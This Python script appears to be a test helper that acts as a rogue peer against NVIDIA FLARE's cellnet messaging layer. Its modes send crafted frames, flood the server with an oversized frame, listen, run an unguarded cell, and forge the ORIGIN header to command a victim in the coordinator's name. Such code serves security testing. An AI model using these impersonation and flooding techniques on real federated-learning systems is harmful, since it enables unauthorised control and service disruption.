"""A rogue that speaks the engine itself, in a process of its own, with whatever certificates it got hold of.

One JSON argument: `mode`, `name`, `url`, `ca`, `cert`, `key`, `security` (mtls, tls, clear) and per mode

    frames   connect, then send each of `frames` ([application id, headers, payload in hex])
    flood    connect, then send one frame of `size` bytes
    listen   accept connections and print what arrives
    bare     be an engine cell without any guard, and print who it thinks called it
    forge    be an engine cell that asks `victim` for something in the coordinator's name

It prints one word per line: connected, refused, sent, or `heard …`.
"""

from __future__ import annotations

import json
import os
import sys
import threading
import time
from typing import Any

from nvflare.fuel.f3.cellnet.core_cell import CoreCell
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey as Key
from nvflare.fuel.f3.cellnet.identity import CellIdentityResolver
from nvflare.fuel.f3.cellnet.utils import make_reply
from nvflare.fuel.f3.communicator import Communicator, Mode
from nvflare.fuel.f3.endpoint import Endpoint, EndpointState
from nvflare.fuel.f3.message import Message

CONNECT_S = 3.0


def say(*words: object) -> None:
    print(*words, flush=True)


class Ears:
    def __init__(self) -> None:
        self.ready = threading.Event()

    def process_message(self, endpoint: Endpoint, connection: object, app_id: int, message: Message) -> None:
        say("heard", endpoint.name, bytes(message.payload or b"").hex())

    def state_change(self, endpoint: Endpoint) -> None:
        if endpoint.state == EndpointState.READY:
            self.ready.set()


def credentials(plan: dict[str, Any]) -> dict[str, str]:
    files = {"ca_cert": plan["ca"], "connection_security": plan["security"]}
    for side in ("client", "server"):
        if plan["security"] == "mtls":
            files |= {f"{side}_cert": plan["cert"], f"{side}_key": plan["key"]}
    return files


def communicator(plan: dict[str, Any], ears: Ears) -> Communicator:
    resolver = CellIdentityResolver(plan["name"], {"server": "localhost"})
    made = Communicator(Endpoint(plan["name"], conn_props=credentials(plan)), resolver)
    for application in (1, 0x464C):
        made.register_message_receiver(application, ears)
    made.register_monitor(ears)
    mode = Mode.PASSIVE if plan["mode"] == "listen" else Mode.ACTIVE
    made.add_connector(plan["url"], mode, secure=plan["security"] != "clear")
    made.start()
    return made


def frames(plan: dict[str, Any]) -> None:
    ears = Ears()
    made = communicator(plan, ears)
    if not ears.ready.wait(CONNECT_S):
        say("refused")
        return
    say("connected")
    if plan["mode"] == "flood":
        made.send(made.find_endpoint("server"), 0x464C, Message(None, b"P" + bytes(plan["size"])))
        time.sleep(1.5)
    for application, headers, payload in plan.get("frames", ()):
        made.send(made.find_endpoint("server"), application, Message(headers, bytes.fromhex(payload)))
        time.sleep(0.02)
    time.sleep(0.3)
    say("sent")


def cell(plan: dict[str, Any]) -> CoreCell:
    made = CoreCell(
        fqcn=plan["name"], root_url=plan["url"], secure=True, credentials=credentials(plan),
        create_internal_listener=False, auth_identity_map={"server": "localhost"},
    )  # fmt: skip

    def called(message: Message) -> Message:
        say("heard", message.get_header(Key.ORIGIN), bytes(message.payload).hex())
        return make_reply("ok")

    made.register_request_cb("any", "any", called)
    made.start()
    return made


def forge(plan: dict[str, Any]) -> None:
    """Ask the victim in the coordinator's name: the header that says so is the sender's to write."""
    made = cell(plan)
    made.add_outgoing_request_filter("any", "any", lambda m: m.set_header(Key.ORIGIN, "server"))
    deadline = time.monotonic() + CONNECT_S
    while not made.agents.get("server"):
        if time.monotonic() > deadline:
            say("refused")
            return
        time.sleep(0.01)
    say("connected")
    time.sleep(0.5)
    for target in (plan["victim"], "server"):
        made.fire_and_forget("any", "any", [target], Message({}, b"do as I say"), optional=True)
    time.sleep(0.5)
    say("sent")


def main() -> None:
    plan = json.loads(sys.argv[1])
    if plan["mode"] in ("frames", "flood"):
        frames(plan)
    elif plan["mode"] == "forge":
        forge(plan)
    else:
        if plan["mode"] == "listen":
            communicator(plan, Ears())
        else:
            cell(plan)
        say("connected")
        time.sleep(60.0)


if __name__ == "__main__":
    main()
    os._exit(0)
